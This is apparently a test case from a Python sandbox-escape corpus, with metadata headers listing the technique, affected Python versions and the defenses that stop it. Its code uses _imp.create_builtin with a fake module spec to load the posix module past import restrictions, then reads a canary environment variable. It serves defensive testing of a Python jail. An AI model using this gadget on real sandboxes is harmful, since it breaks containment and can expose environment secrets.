# id: imp-create-builtin-fake-spec
# family: import-machinery
# kind: escape
# invariant: D, E, G
# origin: pyjailbreaker's gadget for built-in modules
# technique: _imp.create_builtin makes a module for anything that has a name attribute
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import enum


class Spec:
    name = "posix"
    origin = "built-in"


maker = enum.sys.modules["_imp"]
posix = maker.create_builtin(Spec)
maker.exec_builtin(posix)
print(posix.environ[b"PADCELL_CANARY"].decode())
